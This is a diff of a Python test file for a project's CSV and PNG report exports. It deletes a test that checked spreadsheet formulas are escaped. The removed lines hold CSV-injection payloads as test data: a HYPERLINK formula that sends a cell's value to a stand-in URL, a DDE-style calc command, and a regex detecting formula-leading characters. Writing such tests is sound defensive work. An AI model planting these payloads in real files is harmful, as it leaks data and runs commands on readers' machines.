@@ -1,5 +1,3 @@
-import csv
-import re
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -7,25 +5,11 @@ from typing import Any
 import pandas as pd
 import pytest
 
-from interp_transfer.reporting.csv_export import DANGEROUS, ESCAPED, write_csv
+from interp_transfer.reporting.csv_export import write_csv
 from interp_transfer.reporting.png_export import write_png
 
 Save = Callable[[dict[str, Any], dict[str, Any]], Path]
 Json = dict[str, Any]
-
-FORMULAS = (
-    '=HYPERLINK("http://example.org/?"&A1,"see")',
-    "+1+1",
-    "-2+3|' /C calc'!A0",
-    "@SUM(1)",
-    "\t=1",
-    "\r=1",
-    "\n=1",
-    "\uff1d1+1",
-    "'=1",
-    "''@x",
-)
-HARMLESS = ("plain", " =1 is not read", "a-b", "'quoted'", "", 'with "quotes", commas; and\nlines', "\u0634\u0628\u0643\u0629")
 
 
 def read(path: Path) -> pd.DataFrame:
@@ -76,29 +60,6 @@ def test_the_tables_hold_what_the_run_holds(save: Save, result: Json, completion
     assert list(moved["completion"]) == [c["completion"] for c in completions["conditions"]["moved"]]
     assert list(moved["intact"]) == [c["intact"] for c in completions["conditions"]["moved"]]
     assert list(moved["prompt_index"][moved["differ"]]) == [3]
-
-
-def test_no_cell_of_foreign_text_is_a_formula_and_each_comes_back(save: Save, result: Json, completions: Json) -> None:
-    texts = [*FORMULAS, *HARMLESS]
-    for index, text in enumerate(texts):
-        completions["conditions"]["moved"][index] |= {"completion": text, "reason": text}
-        completions["prompts"][index] = text
-    result["conditions"]["=cmd"] = {**result["conditions"]["native"], "note": "@note"}
-    completions["conditions"]["=cmd"] = completions["conditions"]["native"]
-    folder = save(result, completions)
-    write_csv(folder)
-    for path in folder.glob("*.csv"):
-        with path.open(encoding="utf-8", newline="") as lines:
-            cells = [cell for row in csv.reader(lines) for cell in row if not re.fullmatch(r"-?[\d.]+(e-?\d+)?", cell)]
-        assert not [cell for cell in cells if re.match(r"[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]", cell)], path.name
-    with (folder / "completions.csv").open(encoding="utf-8", newline="") as lines:
-        rows = [row for row in csv.DictReader(lines) if row["condition"] == "moved"]
-    for row, text in zip(rows, texts, strict=False):
-        for field in ("prompt", "completion", "reason"):
-            cell = row[field]
-            assert (cell != text) == bool(DANGEROUS.match(text))
-            assert (cell[1:] if ESCAPED.match(cell) else cell) == text
-    assert "'=cmd" in (folder / "conditions.csv").read_text()
 
 
 def test_numbers_below_zero_stay_numbers(save: Save, result: Json, completions: Json) -> None:
